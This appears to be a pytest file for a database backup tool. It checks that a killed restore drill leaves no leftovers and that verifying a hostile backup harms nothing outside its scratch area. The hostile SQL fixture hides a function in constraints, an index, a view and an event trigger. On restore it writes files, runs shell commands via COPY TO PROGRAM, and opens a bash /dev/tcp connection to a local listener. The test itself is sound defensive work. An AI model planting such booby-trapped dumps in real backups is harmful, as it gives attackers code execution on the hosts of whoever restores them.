"""A restore test killed at every step leaves nothing that a sweep does not take, and stays on
record; one of an enemy's database harms nothing outside its scratch place."""

from __future__ import annotations

import os
import signal
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import command_kit
import psycopg
import pytest
from sample_kit import ROOT, load
from scratch_kit import CLOCK, short_folder, traces

from backups import wiring
from backups.proving import Begun, Drill, Pick
from backups.wiring import proving
from verify.scratch.processes import inside

if TYPE_CHECKING:
    from conftest import House  # type: ignore[attr-defined]

pytestmark = pytest.mark.postgres

STEPS = [
    "reading fingerprint",
    "creating the structure",
    "reading archive",
    "building indexes and constraints",
    "reading roles",
    "comparing with the fingerprint",
    "examining the copy",
    "examined: pages",
    "examined: usable",
]


@pytest.fixture
def folder(house: House, tmp_path: Path) -> Iterator[Path]:
    """Of scratch places."""
    (tmp_path / "store").mkdir()
    with short_folder() as folder:
        (house.home / "settings.yaml").write_text(f"scratch: {{directory: {folder}}}\n")
        yield folder


def make_and_die(home: str, step: str) -> None:
    def progress(what: str, *_: object) -> None:
        if what == step:
            os.kill(os.getpid(), signal.SIGKILL)

    with wiring.opened(home) as app:
        (entry,) = app.catalog.backups()
        proving.drill_one(app, entry, Pick("person"), progress)


def test_killed_at_every_step(
    house: House, folder: Path, tmp_path: Path, pg15_url: str, make_database: Callable[..., str]
) -> None:
    url = make_database(pg15_url)
    load(url, ROOT / "localstack" / "sample.sql")
    house.declare(f"file://{tmp_path / 'store'}", shop=url)
    house.must("run", "shop")
    for step in STEPS:
        assert command_kit.fork(make_and_die, str(house.home), step) == -signal.SIGKILL, step
        until = CLOCK.monotonic() + 20
        while inside(folder) and CLOCK.monotonic() < until:  # the kernel ends all of it
            CLOCK.sleep(0.01)
        with wiring.opened(house.home) as app:
            places = proving.sweep(app)
            assert [place.destroyed_at is not None for place in places] == [True] * len(places)
        assert traces(folder) == [], step
    house.must("verify", "run", "shop")
    with wiring.opened(house.home) as app:
        evidence = app.archive.evidence(["begun", "drill"])
    assert sum(isinstance(each, Begun) for each in evidence) == len(STEPS) + 1
    (drill,) = (each for each in evidence if isinstance(each, Drill))
    assert drill.verdict == "PASSED"
    assert traces(folder) == []


ENEMY = """
    CREATE FUNCTION does() RETURNS void VOLATILE LANGUAGE plpgsql AS $$ BEGIN
      -- Where it was made it sleeps: it waits for whoever restores it.
      IF pg_catalog.current_database() OPERATOR(pg_catalog.=) 'HOME' THEN RETURN; END IF;
      BEGIN COPY (SELECT 1) TO 'FOLDER/by-copy'; EXCEPTION WHEN OTHERS THEN END;
      BEGIN COPY (SELECT 1) TO PROGRAM 'touch FOLDER/by-program'; EXCEPTION WHEN OTHERS THEN
      END;
      BEGIN COPY (SELECT 1) TO PROGRAM 'bash -c "echo x > /dev/tcp/127.0.0.1/PORT"';
        EXCEPTION WHEN OTHERS THEN END;
      BEGIN PERFORM pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), 'FOLDER/by-lo');
        EXCEPTION WHEN OTHERS THEN END;
      END $$;
    CREATE FUNCTION acts(v text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
      PERFORM public.does(); RETURN v; END $$;
    CREATE FUNCTION watches() RETURNS event_trigger LANGUAGE plpgsql
      AS 'BEGIN PERFORM public.does(); END';
    CREATE TABLE t (v text, CHECK (acts(v) = v));
    INSERT INTO t VALUES ('a'), ('b');
    CREATE INDEX ON t (acts(v));
    CREATE MATERIALIZED VIEW m AS SELECT acts(v) FROM t;
    CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION watches();
    ALTER EVENT TRIGGER e ENABLE ALWAYS;
"""


def test_an_enemys_database_harms_nothing(
    house: House, folder: Path, tmp_path: Path, pg15_url: str, make_database: Callable[..., str]
) -> None:
    name = f"enemy_{os.getpid()}"
    with short_folder() as outside, socket.create_server(("127.0.0.1", 0)) as listener:
        outside.chmod(0o777)
        sql = ENEMY.replace("HOME", name).replace("FOLDER", str(outside))
        url = make_database(pg15_url, name=name, sql=sql.replace("PORT", port(listener)))
        house.declare(f"file://{tmp_path / 'store'}", shop=url)
        house.must("run", "shop")
        assert list(outside.iterdir()) == [], "it sleeps at home"
        said = house.call("verify", "run", "shop", "--json")
        assert said.json["scratch"]["destroyed_at"]
        assert said.json["verdict"] in ("PASSED", "FAILED"), said.json["reason"]
        assert any(check["name"] == "restored" for check in said.json["checks"]), "it ran"
        assert list(outside.iterdir()) == []
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()
        # It was no idle threat: where nothing keeps it in, it acts.
        victim = f"victim_{os.getpid()}"
        house.call("restore", "shop", "--to", pg15_url.replace("/postgres?", f"/{victim}?"))
        with psycopg.connect(pg15_url, autocommit=True) as connection:
            connection.execute(f"DROP DATABASE IF EXISTS {victim}")  # type: ignore[arg-type]
        assert list(outside.iterdir())
    assert traces(folder) == []


def port(listener: socket.socket) -> str:
    return str(listener.getsockname()[1])
